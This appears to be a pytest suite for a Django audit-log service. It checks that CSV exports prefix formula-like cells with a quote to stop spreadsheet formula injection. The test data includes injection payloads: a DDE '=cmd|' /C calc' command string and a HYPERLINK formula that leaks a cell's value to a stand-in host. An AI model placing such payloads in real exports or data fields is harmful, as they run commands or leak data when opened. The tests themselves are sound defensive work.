"""CSV exports are safe to open in a spreadsheet (OWASP "CSV Injection"); JSON Lines are not
touched. A cell a spreadsheet would run as a formula gets a leading single quote."""

from __future__ import annotations

import csv
import io
import json
from http import HTTPStatus

import pytest
from django.core.management import call_command

from audit.export import csv_cell
from audit.models import AuditEntry
from audit.services import audit_record

pytestmark = pytest.mark.django_db

# (what an agent or a member sent, what the CSV cell holds)
CELLS = [
    ("=1+2", "'=1+2"),
    ("@SUM(1+1)", "'@SUM(1+1)"),
    ("+1+2", "'+1+2"),
    ("-1+2", "'-1+2"),
    ("-5", "'-5"),  # text that looks like a number is still text from an agent
    ("\t=1+2", "'\t=1+2"),
    ("\r=1+2", "'\r=1+2"),
    (" =1+2", "' =1+2"),  # spreadsheets may trim leading spaces on import
    ("\n @SUM(1)", "'\n @SUM(1)"),
    ("\uff1d1+2", "'\uff1d1+2"),  # full-width equals sign
    (
        '=HYPERLINK("http://x.example/?"&A1,"click")',
        '\'=HYPERLINK("http://x.example/?"&A1,"click")',
    ),
    ("refund 1=2", "refund 1=2"),  # a trigger inside the text is harmless
    ("'=1+2", "'=1+2"),  # already starts with a quote: left alone
    ("plain", "plain"),
]


def export_csv(client, user) -> list[dict[str, str]]:
    client.force_login(user)
    response = client.get("/api/v1/audit?format=csv")
    assert response.status_code == HTTPStatus.OK
    text = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize(("sent", "written"), CELLS)
def test_a_csv_cell_that_could_run_as_a_formula_is_prefixed_with_a_quote(
    client, alice, org_a, sent, written
):
    audit_record(organization=org_a, kind=AuditEntry.Kind.LOG, action="kb.search", reason=sent)
    (row,) = export_csv(client, alice)
    assert row["reason"] == written


def test_every_text_column_is_escaped_not_only_the_reason(client, alice, org_a):
    audit_record(
        organization=org_a,
        kind=AuditEntry.Kind.LOG,
        actor_label="=cmd|' /C calc'!A0",
        action="@kb.search",
        session_id="+session",
        rule_name="-rule",
        source="=source",
        target_type="@target",
        target_id="=id",
    )
    (row,) = export_csv(client, alice)
    assert row["actor"] == "'=cmd|' /C calc'!A0"
    assert row["action"] == "'@kb.search"
    assert row["session_id"] == "'+session"
    assert row["rule"] == "'-rule"
    assert row["source"] == "'=source"
    assert row["target_type"] == "'@target"
    assert row["target_id"] == "'=id"


def test_a_session_id_sent_by_an_agent_comes_out_escaped(client, keys, alice):
    response = client.post(
        "/api/v1/check",
        data=json.dumps({"action": "kb.search", "session_id": "@SUM(1+1)"}),
        content_type="application/json",
        HTTP_X_API_KEY=keys.live,
    )
    assert response.status_code == HTTPStatus.OK
    rows = [row for row in export_csv(client, alice) if row["kind"] == "check"]
    assert [row["session_id"] for row in rows] == ["'@SUM(1+1)"]


def test_a_number_column_stays_a_number(client, alice, org_a):
    audit_record(organization=org_a, kind=AuditEntry.Kind.CHECK, action="a", latency_us=1234)
    (row,) = export_csv(client, alice)
    assert row["latency_us"] == "1234"


def test_numbers_pass_unchanged_and_only_text_is_prefixed():
    assert csv_cell(-5) == -5
    assert csv_cell(-0.5) == -0.5
    assert csv_cell("-5") == "'-5"
    assert csv_cell(None) is None
    assert csv_cell("") == ""


def test_a_json_column_starting_with_a_trigger_is_escaped_too(client, alice, org_a):
    audit_record(organization=org_a, kind=AuditEntry.Kind.LOG, action="a", arguments=-3)
    (row,) = export_csv(client, alice)
    assert row["arguments"] == "'-3"


def test_a_cell_with_a_separator_stays_one_cell(client, alice, org_a):
    audit_record(organization=org_a, kind=AuditEntry.Kind.LOG, action="a", reason='x",=1+2')
    (row,) = export_csv(client, alice)
    assert row["reason"] == 'x",=1+2'
    assert row["kind"] == "log"


def test_json_lines_are_unchanged(client, alice, org_a):
    audit_record(organization=org_a, kind=AuditEntry.Kind.LOG, action="@SUM(1+1)", reason="=1+2")
    client.force_login(alice)
    response = client.get("/api/v1/audit?format=jsonl")
    (line,) = [json.loads(x) for x in b"".join(response.streaming_content).splitlines()]
    assert line["action"] == "@SUM(1+1)"
    assert line["reason"] == "=1+2"


def test_the_command_writes_escaped_csv(org_a, tmp_path):
    audit_record(organization=org_a, kind=AuditEntry.Kind.LOG, action="a", reason="=1+2")
    out = tmp_path / "audit.csv"
    call_command(
        "warden_audit", "export", "--org", org_a.public_id, "--format", "csv", "--output", str(out)
    )
    (row,) = list(csv.DictReader(out.open(newline="")))
    assert row["reason"] == "'=1+2"
